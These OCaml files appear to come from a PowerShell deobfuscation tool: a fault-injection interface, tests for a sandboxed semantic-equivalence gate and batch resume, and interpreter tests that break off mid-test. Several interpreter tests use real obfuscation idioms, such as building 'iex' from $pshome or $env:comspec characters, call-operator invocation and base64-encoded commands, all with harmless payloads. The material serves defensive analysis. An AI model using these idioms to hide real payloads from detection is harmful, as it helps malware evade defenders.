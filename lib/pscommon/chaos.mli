(** Deterministic fault injection for resilience testing.

    Named {e probe points} are threaded through the pipeline's containment
    sites ({!Guard.protect}, piece invocation, interpreter evaluation, pool
    task execution, batch file IO, and the serve daemon's socket edges:
    [serve.accept], [serve.read], [serve.write], [serve.queue]; plus the
    supervision plane: [serve.wedge] — a worker enters a bounded busy-loop
    past its deadline without hitting a cooperative checkpoint — and
    [serve.respawn] — replacing a wedged or retired worker fails once,
    exercising the respawn backoff; and the dynamic-provenance plane:
    [interp.provenance] — a fault in the per-write recorder hook, which
    must poison the provenance map rather than escape into evaluation —
    and [recover.dynamic] — a fault in the dynamic recovery stage itself,
    contained by the engine's phase guard so the run degrades to the
    static output).  When
    chaos is disabled — the default —
    a probe is one atomic load and a comparison: nothing allocates and
    nothing can fire, so probes stay in place on hot paths.  When enabled
    with a {!config}, each probe draws from a {e seeded} deterministic
    stream and raises one of the containment-taxonomy faults
    ([Deadline_exceeded], [Stack_overflow], [Out_of_memory], or an
    arbitrary {!Injected} exception) at the configured per-site rate.

    Reproducibility is the point: the same [seed] replays the same faults
    at the same probe invocations.  Draw streams are domain-local, and
    {!with_scope} re-derives the stream from [(seed, label)], so a batch
    worker that scopes each file by name injects identically no matter
    which domain ran the file or in what order — outputs under injection
    are byte-identical across [--jobs] levels and across traced/untraced
    runs. *)

type config = {
  seed : int;  (** stream seed; same seed, same faults *)
  rate : float;  (** default per-probe injection probability in [0,1] *)
  site_rates : (string * float) list;
      (** per-site overrides, e.g. [("interp.eval", 0.0)] *)
}

val parse_spec : string -> (config, string) result
(** Parse ["SEED:RATE"] or ["SEED:RATE:SITE=RATE,SITE=RATE"] — the
    [--chaos] CLI / [INVOKE_DEOBF_CHAOS] env syntax. *)

val set : config option -> unit
(** Enable ([Some cfg]) or disable ([None], the initial state) injection
    process-wide.  Stored in an [Atomic]; set before spawning workers. *)

val current : unit -> config option
val enabled : unit -> bool

exception Injected of string
(** The "arbitrary exception" fault; carries the probe site.  Classified
    by {!Guard.classify_exn} as [Unexpected]. *)

val set_deadline_exn : exn -> unit
(** Dependency inversion: {!Guard} registers its [Deadline_exceeded] here
    at init so probes can inject it without a module cycle.  Before
    registration the deadline fault falls back to {!Injected}. *)

val set_oom_exn : exn -> unit
(** Same inversion for the memory fault: {!Guard} registers its dedicated
    injected-OOM exception (classified as [Oom]) so probes never raise the
    runtime's preallocated [Out_of_memory] — injected exhaustion stays
    distinguishable from the allocator really giving up, while flowing
    through the same taxonomy end-to-end.  Before registration the fault
    falls back to {!Injected}. *)

val probe : string -> unit
(** [probe site] possibly raises an injected fault.  No-op when disabled.
    When enabled it always consumes one draw (two when it fires), keeping
    the stream position — and therefore every later decision — a pure
    function of the seed, the scope label and the call sequence. *)

val with_scope : string -> (unit -> 'a) -> 'a
(** [with_scope label f] runs [f] with the current domain's draw stream
    re-derived from [(seed, label)], restoring the previous stream after.
    A no-op when disabled.  Batch processing scopes each file by basename,
    making injection per-file deterministic independent of scheduling. *)

val draws : unit -> int
(** Probe invocations that reached the enabled slow path since {!reset_draws}
    (process-global).  Bumped only when enabled, so counting probes (for
    the overhead bench) costs nothing in production. *)

val reset_draws : unit -> unit

(** Corpus mutation fuzzing: the malformed-input generator backing the
    resilience tests and bench.  Deterministic via the caller's {!Rng}. *)
module Mutate : sig
  type kind =
    | Truncate  (** cut the tail — a partial download *)
    | Byte_flip  (** flip random bytes — line noise / bad decode *)
    | Splice  (** duplicate-and-swap two slices — a botched dropper concat *)
    | Encoding
        (** binary-blob / encoding corruption: NUL-interleave a slice or
            prepend a bogus UTF-16 BOM and raw high bytes *)

  val kinds : kind list
  val kind_name : kind -> string

  val truncate_at : float -> string -> string
  (** [truncate_at frac s] keeps the first [frac] of [s] ([0..1], clamped). *)

  val apply : Rng.t -> kind -> string -> string
  (** Apply one mutation.  Total: empty and tiny inputs come back usable. *)
end
