(* Tests for the semantic-equivalence gate: canonical effect logs, the
   edit journal and its prefix replay, differential verification with
   bisection rollback, the crash-safe batch resume journal, and the
   cache/parallelism invariants the gate relies on. *)

module V = Deobf.Verify
module E = Deobf.Engine
module El = Deobf.Editlog

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let parses src = match Psparse.Parser.parse src with Ok _ -> true | Error _ -> false

let with_temp_dir f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "verify-%d" (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect ~finally:(fun () -> if Sys.file_exists dir then rm dir)
    (fun () -> f dir)

let write path content =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

let read path = In_channel.with_open_bin path In_channel.input_all

(* ---------- canonical effect logs ---------- *)

let test_effect_log_records_commands () =
  match Sandbox.run_for_verify "Start-Sleep 5; nonexistent-cmd foo bar" with
  | Error e -> Alcotest.failf "contained: %s" e
  | Ok log ->
      check_b "unresolved command logged with args" true
        (List.mem "cmd:nonexistent-cmd foo bar" log)

let test_effect_log_rename_invariant () =
  (* same behaviour, different variable names: the var section is a value
     multiset, so renaming must not register *)
  let a = Sandbox.run_for_verify "$alpha = 'v'; Write-Output $alpha" in
  let b = Sandbox.run_for_verify "$beta = 'v'; Write-Output $beta" in
  match (a, b) with
  | Ok la, Ok lb -> Alcotest.(check (list string)) "logs equal" la lb
  | _ -> Alcotest.fail "contained"

let test_effect_log_unwrap_invariant () =
  (* unwrapping an iex layer removes the interpreter-invocation event but
     must not change the canonical log *)
  let a = Sandbox.run_for_verify "iex ('Write-Output 7')" in
  let b = Sandbox.run_for_verify "Write-Output 7" in
  match (a, b) with
  | Ok la, Ok lb -> Alcotest.(check (list string)) "logs equal" la lb
  | _ -> Alcotest.fail "contained"

let test_effect_log_detects_output_change () =
  let a = Sandbox.run_for_verify "Write-Output 'one'" in
  let b = Sandbox.run_for_verify "Write-Output 'two'" in
  match (a, b) with
  | Ok la, Ok lb -> check_b "different outputs differ" false (la = lb)
  | _ -> Alcotest.fail "contained"

let test_pipeline_cursor_not_compared () =
  (* $_ / $input residue depends on whether a pipeline was folded away *)
  let a = Sandbox.run_for_verify "'x','y' | ForEach-Object { $_ } | Out-Null" in
  let b = Sandbox.run_for_verify "" in
  match (a, b) with
  | Ok la, Ok lb -> Alcotest.(check (list string)) "no cursor residue" lb la
  | _ -> Alcotest.fail "contained"

(* ---------- edit journal ---------- *)

let test_journal_records_stages () =
  let src = "$a = ('te'+'st'); Write-Output $a" in
  let g = E.run_guarded src in
  check_b "edits journaled" true (Array.length (El.flatten g.E.edit_log) > 0);
  check_b "stats count matches journal" true
    (g.E.result.E.stats.Deobf.Recover.edits_recorded
    = Array.length (El.flatten g.E.edit_log))

let test_journal_prefix_replay () =
  let src = "$a = ('te'+'st'); Write-Output $a" in
  let g = E.run_guarded src in
  let stages = g.E.edit_log in
  let total = Array.length (El.flatten stages) in
  check_s "prefix 0 is the original" src (El.replay_prefix ~src stages 0);
  (* every prefix of the journal must parse: stages were validated and a
     partial stage applies a prefix of non-overlapping extent edits *)
  for n = 0 to total do
    check_b
      (Printf.sprintf "prefix %d parses" n)
      true
      (parses (El.replay_prefix ~src stages n))
  done

let test_suppression_matches_by_content () =
  let sup = { El.sup_phase = "recover"; sup_before = "$x"; sup_after = "'a'" } in
  check_b "matching edit suppressed" true
    (El.suppressed [ sup ] ~phase:"recover" ~before:"$x" ~after:"'a'");
  check_b "different content kept" false
    (El.suppressed [ sup ] ~phase:"recover" ~before:"$y" ~after:"'a'");
  check_b "different phase kept" false
    (El.suppressed [ sup ] ~phase:"token" ~before:"$x" ~after:"'a'")

(* ---------- the gate ---------- *)

let test_verify_equivalent_simple () =
  (* cache off: this test asserts both sides actually executed, which a
     warm reference memo (process-wide, possibly fed by earlier suites)
     would legitimately skip *)
  let opts = { V.default_opts with V.use_ref_cache = false } in
  let _, o = V.run_guarded ~opts "$a = ('te'+'st'); Write-Output $a" in
  check_s "verdict" "equivalent" (V.verdict_name o.V.verdict);
  check_b "sandbox ran" true (o.V.sandbox_runs >= 2)

let test_ref_cache_ablation () =
  (* the memo must be invisible in verdicts: gate the same script with the
     reference cache off, then twice with it on — identical verdicts, and
     the warm pass performs exactly one fewer sandbox execution (the
     reference run answered from the memo) *)
  let src = "$q = ('ca'+'che'+'d'); Write-Output $q" in
  let off_opts = { V.default_opts with V.use_ref_cache = false } in
  let _, off = V.run_guarded ~opts:off_opts src in
  let _, cold = V.run_guarded src in
  let _, warm = V.run_guarded src in
  check_s "cache-off and cache-on verdicts identical"
    (V.verdict_name off.V.verdict)
    (V.verdict_name cold.V.verdict);
  check_s "warm verdict identical"
    (V.verdict_name off.V.verdict)
    (V.verdict_name warm.V.verdict);
  check_i "memo hit skips exactly the reference run"
    (cold.V.sandbox_runs - 1) warm.V.sandbox_runs

let test_verify_unchanged_skips_sandbox () =
  (* the engine's own fixpoint has nothing left to deobfuscate: trivially
     equivalent without execution *)
  let fixed = (E.run "Write-Output 'plain'").E.output in
  let g, o = V.run_guarded fixed in
  check_s "verdict" "equivalent" (V.verdict_name o.V.verdict);
  check_b "output unchanged" true (String.equal g.E.result.E.output fixed);
  check_i "no sandbox runs" 0 o.V.sandbox_runs

let test_verify_unparseable_original () =
  (* partial-parse recovery rewrites the parseable region, so the output
     differs from an original that never parsed — nothing to execute or
     bisect against *)
  let g, o = V.run_guarded "$a = ('te'+'st'); Write-Output $a\nif ({{{" in
  check_b "partial recovery changed the text" true g.E.result.E.changed;
  check_s "verdict" "unverifiable" (V.verdict_name o.V.verdict);
  check_i "no sandbox runs" 0 o.V.sandbox_runs

(* the end-to-end demo: the loop-carried update $x = $x + 'b' used to be
   mis-folded by static tracing ($x traced as 'a' from before the loop),
   turning "abbb" into "ab" and forcing the gate to roll the fold back.
   The tracer now evicts loop-assigned names before scanning the loop, and
   the provenance-guided dynamic stage recovers the loop for real — so the
   demo must verify equivalent with zero rollbacks AND the recovered value
   must appear literally. *)
let loop_fold_src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x"

let test_loop_fold_recovered_for_real () =
  let g, o = V.run_guarded loop_fold_src in
  check_s "verdict" "equivalent" (V.verdict_name o.V.verdict);
  check_i "zero rollbacks" 0 (List.length o.V.suppressed);
  check_i "no dynamic edits rolled back" 0 o.V.dynamic_rolled_back;
  let out = g.E.result.E.output in
  check_b "verified output parses" true (parses out);
  check_b "loop folded to the final value" true
    (Pscommon.Strcase.contains ~needle:"'abbb'" out);
  (* the recovered output behaves like the original *)
  (match (Sandbox.run_for_verify loop_fold_src, Sandbox.run_for_verify out) with
  | Ok a, Ok b -> Alcotest.(check (list string)) "behaviour preserved" a b
  | _ -> Alcotest.fail "contained");
  (* the fix is real, not gate-dependent: even the unverified engine no
     longer breaks this script *)
  let plain = (E.run loop_fold_src).E.output in
  match (Sandbox.run_for_verify loop_fold_src, Sandbox.run_for_verify plain) with
  | Ok a, Ok b -> check_b "unverified output equivalent too" true (a = b)
  | _ -> Alcotest.fail "contained"

let test_gate_with_custom_rerun () =
  (* bisection pinpoints a synthetic bad stage injected on top of a benign
     pipeline: only the malicious edit is suppressed, the benign one kept *)
  let src = "Write-Output ('ke'+'ep'); Write-Output 'safe'" in
  let bad_before = "'safe'" and bad_after = "'EVIL'" in
  let rerun ~suppress =
    let g = E.run_guarded ~suppress src in
    let out = g.E.result.E.output in
    if El.suppressed suppress ~phase:"evil" ~before:bad_before ~after:bad_after
    then g
    else
      (* splice in a behaviour-changing edit, journaled like a real pass *)
      let idx =
        match Pscommon.Strcase.index_opt ~needle:bad_before out with
        | Some i -> i
        | None -> 0
      in
      let edit =
        Pscommon.Patch.edit
          (Pscommon.Extent.make ~start:idx ~stop:(idx + String.length bad_before))
          bad_after
      in
      let patched = Pscommon.Patch.apply out [ edit ] in
      let stage_log = El.create () in
      El.record_stage stage_log ~phase:"evil" ~pass:99 ~src:out [ (edit, "evil") ];
      {
        g with
        E.result = { g.E.result with E.output = patched; changed = true };
        edit_log = g.E.edit_log @ El.stages stage_log;
      }
  in
  let g, o = V.gate ~rerun ~src (rerun ~suppress:[]) in
  (match o.V.verdict with
  | V.Rolled_back 1 -> ()
  | v -> Alcotest.failf "expected rolled_back 1, got %s" (V.verdict_name v));
  (match o.V.suppressed with
  | [ s ] ->
      check_s "culprit phase" "evil" s.El.sup_phase;
      check_s "culprit before" bad_before s.El.sup_before;
      check_s "culprit after" bad_after s.El.sup_after
  | l -> Alcotest.failf "expected one suppression, got %d" (List.length l));
  check_b "benign rewrite kept" true
    (Pscommon.Strcase.contains ~needle:"'keep'" g.E.result.E.output);
  check_b "injected rewrite gone" true
    (Pscommon.Strcase.contains ~needle:"'safe'" g.E.result.E.output)

(* ---------- piece cache soundness ---------- *)

let test_verdict_identical_with_and_without_piece_cache () =
  (* a memoized piece result must never carry or replay effects: the
     verdict (and output) with the cache on equals the --no-piece-cache
     ablation on a script that hits the cache heavily *)
  let src = "Write-Host ('f'+'oo') ('f'+'oo') ('f'+'oo') ('f'+'oo')" in
  let cached = E.default_options in
  let uncached =
    { cached with
      E.recovery = { cached.E.recovery with Deobf.Recover.use_piece_cache = false } }
  in
  let gc, oc = V.run_guarded ~options:cached src in
  let gu, ou = V.run_guarded ~options:uncached src in
  check_b "cache actually exercised" true
    (gc.E.result.E.stats.Deobf.Recover.cache_hits > 0);
  check_s "same verdict" (V.verdict_name ou.V.verdict) (V.verdict_name oc.V.verdict);
  check_s "same output" gu.E.result.E.output gc.E.result.E.output;
  check_s "verdict is equivalent" "equivalent" (V.verdict_name oc.V.verdict)

(* ---------- batch: verify, resume, parallel identity ---------- *)

let sample_files dir n =
  let samples = Corpus.Generator.generate ~seed:23 ~count:n in
  List.map
    (fun (s : Corpus.Generator.sample) ->
      let path = Filename.concat dir (Printf.sprintf "s%04d.ps1" s.id) in
      write path s.obfuscated;
      path)
    samples

let test_batch_verify_jobs_byte_identical () =
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      Sys.mkdir in_dir 0o755;
      let files = sample_files in_dir 10 in
      let out1 = Filename.concat dir "out1" in
      let out4 = Filename.concat dir "out4" in
      let s1 =
        Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out1 ~jobs:1 ~verify:true files
      in
      let s4 =
        Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out4 ~jobs:4 ~verify:true files
      in
      check_i "all processed" 10 s1.Deobf.Batch.total;
      List.iter2
        (fun (a : Deobf.Batch.outcome) (b : Deobf.Batch.outcome) ->
          check_s "same verdict across jobs"
            (match a.Deobf.Batch.verdict with
            | Some v -> V.verdict_name v
            | None -> "off")
            (match b.Deobf.Batch.verdict with
            | Some v -> V.verdict_name v
            | None -> "off"))
        s1.Deobf.Batch.outcomes s4.Deobf.Batch.outcomes;
      List.iter
        (fun file ->
          let base = Filename.basename file in
          check_s
            (Printf.sprintf "%s identical across jobs" base)
            (read (Filename.concat out1 base))
            (read (Filename.concat out4 base)))
        files)

let test_batch_resume_skips_and_preserves_outputs () =
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      Sys.mkdir in_dir 0o755;
      let files = sample_files in_dir 6 in
      let out_dir = Filename.concat dir "out" in
      let s1 = Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir files in
      check_i "first run clean" 6 s1.Deobf.Batch.clean;
      let outputs =
        List.map (fun f -> read (Filename.concat out_dir (Filename.basename f))) files
      in
      (* restart: everything is answered from the journal, bytes untouched *)
      let s2 = Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir ~resume:true files in
      check_i "all resumed" 6
        (List.length
           (List.filter (fun o -> o.Deobf.Batch.resumed) s2.Deobf.Batch.outcomes));
      List.iter2
        (fun f expected ->
          check_s "output byte-identical after resume" expected
            (read (Filename.concat out_dir (Filename.basename f))))
        files outputs;
      (* verdicts survive the round-trip through manifest.jsonl *)
      List.iter2
        (fun (a : Deobf.Batch.outcome) (b : Deobf.Batch.outcome) ->
          check_s "verdict preserved"
            (match a.Deobf.Batch.verdict with Some v -> V.verdict_name v | None -> "off")
            (match b.Deobf.Batch.verdict with Some v -> V.verdict_name v | None -> "off"))
        s1.Deobf.Batch.outcomes s2.Deobf.Batch.outcomes)

let test_batch_resume_reprocesses_changed_input () =
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      Sys.mkdir in_dir 0o755;
      let a = Filename.concat in_dir "a.ps1" in
      let b = Filename.concat in_dir "b.ps1" in
      write a "Write-Output ('o'+'ne')";
      write b "Write-Output ('t'+'wo')";
      let out_dir = Filename.concat dir "out" in
      let _ = Deobf.Batch.run_files ~out_dir [ a; b ] in
      (* edit one input: its digest no longer matches the journal entry *)
      write b "Write-Output ('TW'+'O-changed')";
      let s2 = Deobf.Batch.run_files ~out_dir ~resume:true [ a; b ] in
      (match s2.Deobf.Batch.outcomes with
      | [ oa; ob ] ->
          check_b "unchanged input resumed" true oa.Deobf.Batch.resumed;
          check_b "changed input reprocessed" false ob.Deobf.Batch.resumed
      | _ -> Alcotest.fail "expected two outcomes");
      check_b "new output written" true
        (Pscommon.Strcase.contains ~needle:"TWO-changed"
           (read (Filename.concat out_dir "b.ps1"))))

let test_batch_resume_ignores_other_options () =
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      Sys.mkdir in_dir 0o755;
      let a = Filename.concat in_dir "a.ps1" in
      write a "Write-Output ('o'+'k')";
      let out_dir = Filename.concat dir "out" in
      let _ = Deobf.Batch.run_files ~out_dir [ a ] in
      (* different engine options: the fingerprint differs, no skipping *)
      let options = { E.default_options with E.rename = false } in
      let s2 = Deobf.Batch.run_files ~options ~out_dir ~resume:true [ a ] in
      match s2.Deobf.Batch.outcomes with
      | [ o ] -> check_b "options change defeats resume" false o.Deobf.Batch.resumed
      | _ -> Alcotest.fail "expected one outcome")

(* ---------- properties ---------- *)

(* every generator sample round-trips through the verified pipeline as
   equivalent: the tool's rewrites preserve sandbox-observable behaviour
   on the whole synthetic wild corpus *)
let prop_generator_samples_verify_equivalent =
  QCheck.Test.make ~name:"verify: generator samples all equivalent" ~count:15
    QCheck.small_nat
    (fun seed ->
      match Corpus.Generator.generate ~seed:(seed * 17 + 3) ~count:1 with
      | [ s ] ->
          let _, o = V.run_guarded s.Corpus.Generator.obfuscated in
          o.V.verdict = V.Equivalent
      | _ -> false)

(* rollback never produces unparseable output, and the gate never reports
   a divergence it could have repaired on loop-carried folds of varying
   shape *)
let prop_rollback_output_parses =
  QCheck.Test.make ~name:"verify: rollback output always parses" ~count:25
    QCheck.(pair small_nat small_nat)
    (fun (a, b) ->
      let word = Printf.sprintf "w%d" (a mod 7) in
      let n = 2 + (b mod 4) in
      let src =
        Printf.sprintf
          "$x = '%s'\nforeach ($i in 1..%d) { $x = $x + 'b' }\nWrite-Output $x"
          word n
      in
      let g, o = V.run_guarded src in
      let ok_verdict =
        match o.V.verdict with
        | V.Equivalent | V.Rolled_back _ -> true
        | V.Diverged | V.Unverifiable _ -> false
      in
      ok_verdict && parses g.E.result.E.output)

let suite =
  [
    Alcotest.test_case "effect log records unresolved commands" `Quick
      test_effect_log_records_commands;
    Alcotest.test_case "effect log is rename-invariant" `Quick
      test_effect_log_rename_invariant;
    Alcotest.test_case "effect log is unwrap-invariant" `Quick
      test_effect_log_unwrap_invariant;
    Alcotest.test_case "effect log detects output change" `Quick
      test_effect_log_detects_output_change;
    Alcotest.test_case "pipeline cursors not compared" `Quick
      test_pipeline_cursor_not_compared;
    Alcotest.test_case "journal records applied stages" `Quick
      test_journal_records_stages;
    Alcotest.test_case "journal prefixes replay and parse" `Quick
      test_journal_prefix_replay;
    Alcotest.test_case "suppression matches by content" `Quick
      test_suppression_matches_by_content;
    Alcotest.test_case "gate: simple recovery equivalent" `Quick
      test_verify_equivalent_simple;
    Alcotest.test_case "gate: reference memo invisible in verdicts" `Quick
      test_ref_cache_ablation;
    Alcotest.test_case "gate: unchanged output skips sandbox" `Quick
      test_verify_unchanged_skips_sandbox;
    Alcotest.test_case "gate: unparseable original unverifiable" `Quick
      test_verify_unparseable_original;
    Alcotest.test_case "gate: loop fold recovered for real, zero rollbacks"
      `Quick test_loop_fold_recovered_for_real;
    Alcotest.test_case "gate: bisection pinpoints injected bad stage" `Quick
      test_gate_with_custom_rerun;
    Alcotest.test_case "verdict identical with and without piece cache"
      `Quick test_verdict_identical_with_and_without_piece_cache;
    Alcotest.test_case "batch --verify jobs=4 byte-identical" `Slow
      test_batch_verify_jobs_byte_identical;
    Alcotest.test_case "batch resume skips and preserves outputs" `Slow
      test_batch_resume_skips_and_preserves_outputs;
    Alcotest.test_case "batch resume reprocesses changed input" `Quick
      test_batch_resume_reprocesses_changed_input;
    Alcotest.test_case "batch resume keyed on options fingerprint" `Quick
      test_batch_resume_ignores_other_options;
    QCheck_alcotest.to_alcotest prop_generator_samples_verify_equivalent;
    QCheck_alcotest.to_alcotest prop_rollback_output_parses;
  ]
