lib/psparse/parser.mli: Psast
