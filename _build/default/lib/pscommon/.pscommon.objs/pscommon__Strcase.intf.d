lib/pscommon/strcase.mli: Map Set
