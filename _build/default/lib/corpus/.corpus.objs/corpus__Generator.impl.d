lib/corpus/generator.ml: Keyinfo List Obfuscator Pscommon Rng String Templates
