lib/regexen/regex.ml: Array Buffer Char List Printf String
