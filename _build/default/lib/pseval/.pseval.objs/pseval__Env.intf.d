lib/pseval/env.mli: Hashtbl Psast Psvalue
