(* Tests for the interpreter: PowerShell semantics the recovery code
   depends on. *)

module Value = Psvalue.Value

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let eval ?(mode = Pseval.Env.Recovery) src =
  let env = Pseval.Env.create ~mode () in
  match Pseval.Interp.invoke_piece env src with
  | Ok v -> v
  | Error msg -> Alcotest.fail (src ^ " -> " ^ msg)

let eval_err ?(mode = Pseval.Env.Recovery) src =
  let env = Pseval.Env.create ~mode () in
  match Pseval.Interp.invoke_piece env src with
  | Ok v -> Alcotest.fail (Format.asprintf "expected error, got %a" Value.pp v)
  | Error msg -> msg

let eval_str src = Value.to_string (eval src)
let eval_int src = Value.to_int (eval src)

(* ---------- string / arithmetic coercions ---------- *)

let test_concat () =
  check_s "str+str" "hello" (eval_str "'he'+'llo'");
  check_s "str+int" "a1" (eval_str "'a' + 1");
  check_s "char+char" "hi" (eval_str "[char]104 + [char]105");
  check_i "int+str coerces rhs" 10 (eval_int "5 + '5'")

let test_arithmetic () =
  check_i "mul" 15 (eval_int "5 * 3");
  check_s "string replication" "ababab" (eval_str "'ab' * 3");
  check_i "mod" 2 (eval_int "17 % 5");
  check_i "div exact" 4 (eval_int "8 / 2");
  check_b "div inexact is float" true
    (match eval "7 / 2" with Value.Float f -> f = 3.5 | _ -> false);
  check_s "division by zero" "operator error: division by zero" (eval_err "1/0")

let test_hex_string_conversion () =
  (* '0x4B' converts to 75 — the -bxor '0x4B' idiom *)
  check_i "hex string" 75 (eval_int "1 * '0x4B'");
  check_i "bxor hex" 40 (eval_int "99 -bxor '0x4B'")

let test_format_operator () =
  check_s "reorder" "write-host hello"
    (eval_str {|"{2}{0}{1}" -f 'ost h', 'ello', 'write-h'|});
  check_s "repeat index" "aba" (eval_str {|"{0}{1}{0}" -f 'a', 'b'|});
  check_s "escaped braces" "{x}" (eval_str {|"{{{0}}}" -f 'x'|});
  check_s "padding" "  7" (eval_str {|"{0,3}" -f 7|});
  check_s "hex format" "FF" (eval_str {|"{0:X2}" -f 255|})

let test_range_and_index () =
  check_s "range join" "12345" (eval_str "(1..5) -join ''");
  check_s "reverse index" "olleh" (eval_str "-join ('hello'[-1..-5])");
  check_s "index array" "Iex" (eval_str "$env:comspec[4,24,25] -join ''");
  check_b "out of range is null" true (eval "'abc'[99]" = Value.Null);
  check_s "pshome trick" "iex" (eval_str "$pshome[4]+$pshome[30]+'x'")

let test_split_join () =
  check_s "split rejoin" "a|b|c" (eval_str "('a,b,c' -split ',') -join '|'");
  check_s "chained split" "ab" (eval_str "(('a~b' -split '~') -split 'x') -join ''");
  check_s "unary split" "3" (eval_str "(-split 'a b  c').Length");
  check_s "unary join" "abc" (eval_str "-join ('a','b','c')");
  check_s "method split" "2" (eval_str "'a:b'.Split(':').Length")

let test_replace_ops () =
  check_s "-replace regex" "aXc" (eval_str "'abc' -replace 'b','X'");
  check_s "-replace caseless" "X" (eval_str "'A' -replace 'a','X'");
  check_s "-creplace case sensitive" "A" (eval_str "'A' -creplace 'a','X'");
  check_s ".Replace ordinal" "heLLo" (eval_str "'hello'.Replace('ll','LL')");
  check_s ".Replace case-sensitive" "hello" (eval_str "'hello'.Replace('LL','XX')")

let test_comparisons () =
  check_b "eq caseless" true (Value.to_bool (eval "'ABC' -eq 'abc'"));
  check_b "ceq sensitive" false (Value.to_bool (eval "'ABC' -ceq 'abc'"));
  check_b "lt" true (Value.to_bool (eval "1 -lt 2"));
  check_b "like wildcard" true (Value.to_bool (eval "'hello.ps1' -like '*.ps1'"));
  check_b "match regex" true (Value.to_bool (eval "'abc123' -match '\\d+'"));
  check_s "array filter" "2" (eval_str "((1,2,3) -eq 2) -join ''");
  check_b "contains" true (Value.to_bool (eval "(1,2,3) -contains 2"));
  check_b "in" true (Value.to_bool (eval "2 -in (1,2,3)"))

let test_logical_shortcircuit () =
  (* rhs must not evaluate when lhs decides *)
  check_b "and shortcircuit" false
    (Value.to_bool (eval "($false) -and ($undefined_variable)"));
  check_b "or shortcircuit" true
    (Value.to_bool (eval "($true) -or ($undefined_variable)"))

let test_bitwise () =
  check_i "band" 8 (eval_int "12 -band 10");
  check_i "bor" 14 (eval_int "12 -bor 10");
  check_i "bxor" 6 (eval_int "12 -bxor 10");
  check_i "shl" 8 (eval_int "1 -shl 3");
  check_i "shr" 2 (eval_int "16 -shr 3")

let test_variables_and_scope () =
  check_s "assign read" "xy" (eval_str "$a = 'x'; $b = $a + 'y'; $b");
  check_i "compound" 7 (eval_int "$i = 3; $i += 4; $i");
  check_i "increment" 6 (eval_int "$i = 5; $i++; $i");
  check_s "env variable" "C:\\WINDOWS\\system32\\cmd.exe" (eval_str "$env:comspec");
  check_b "undefined errors in recovery" true
    (String.length (eval_err "$nope") > 0);
  check_b "undefined is null in sandbox" true
    (let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
     match Pseval.Interp.invoke_piece env "$nope" with
     | Ok Value.Null -> true
     | _ -> false)

let test_expandable_strings () =
  check_s "interpolation" "v=5" (eval_str "$x = 5; \"v=$x\"");
  check_s "subexpr" "r:3" (eval_str "\"r:$(1+2)\"");
  check_s "env in string" "home C:\\Users\\user" (eval_str "\"home $env:userprofile\"");
  check_s "single quotes do not expand" "$x" (eval_str "'$x'")

let test_casts () =
  check_s "char of int" "h" (eval_str "[char]104");
  check_s "string of char" "'" (eval_str "[string][char]39");
  check_i "int of string" 42 (eval_int "[int]'42'");
  check_s "char array" "5" (eval_str "([char[]]'hello').Length");
  check_b "bool" true (Value.to_bool (eval "[bool]1"));
  check_b "unknown cast errors" true (String.length (eval_err "[madeuptype]'x'") > 0)

let test_statics () =
  check_s "frombase64+unicode" "hello"
    (eval_str "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABlAGwAbABvAA=='))");
  check_s "ascii getstring" "hi"
    (eval_str "[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aGk='))");
  check_i "toint32 radix" 104 (eval_int "[convert]::ToInt32('1101000',2)");
  check_i "toint32 hex" 255 (eval_int "[convert]::ToInt32('ff',16)");
  check_s "string join" "a-b" (eval_str "[string]::Join('-', ('a','b'))");
  check_s "tobase64" "aGk=" (eval_str "[Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes('hi'))");
  check_s "array reverse" "cba"
    (eval_str "$a = [char[]]'abc'; [array]::Reverse($a); $a -join ''")

let test_string_methods () =
  check_s "substring" "ell" (eval_str "'hello'.Substring(1,3)");
  check_s "toupper" "HI" (eval_str "'hi'.ToUpper()");
  check_s "tochararray join" "h.i" (eval_str "'hi'.ToCharArray() -join '.'");
  check_i "length" 5 (eval_int "'hello'.Length");
  check_i "indexof caseless" 1 (eval_int "'hello'.IndexOf('E')");
  check_b "startswith prefix test" true
    (Value.to_bool (eval "'-encodedcommand'.StartsWith('-enc')"));
  check_s "trim" "x" (eval_str "'  x  '.Trim()");
  check_s "padleft" "  x" (eval_str "'x'.PadLeft(3)");
  check_s "insert" "abXcd" (eval_str "'abcd'.Insert(2,'X')")

let test_pipeline_foreach () =
  check_s "foreach-object" "cst"
    (eval_str "('99,115,116' -split ',' | ForEach-Object { [char][int]$_ }) -join ''");
  check_s "percent alias" "246" (eval_str "(1,2,3 | % { $_ * 2 }) -join ''");
  check_s "where-object" "13" (eval_str "(1,2,3 | Where-Object { $_ -ne 2 }) -join ''");
  check_i "select first" 2 (eval_int "(1,2,3 | Select-Object -First 2).Length";);
  check_s "sort" "123" (eval_str "(3,1,2 | Sort-Object) -join ''")

let test_iex () =
  check_i "iex string" 42 (eval_int "iex '40 + 2'");
  check_i "iex pipeline" 9 (eval_int "'3 * 3' | iex");
  check_i "call operator" 7 (eval_int "& ('ie'+'x') '3+4'");
  check_i "dot call" 8 (eval_int ". ($pshome[4]+$pshome[30]+'x') '4+4'");
  check_b "iex depth limited" true
    (String.length (eval_err "$s = 'iex $s'; iex $s") > 0)

let test_powershell_enc () =
  let b64 = Encoding.Base64.encode (Encoding.Utf16.encode "5 * 5") in
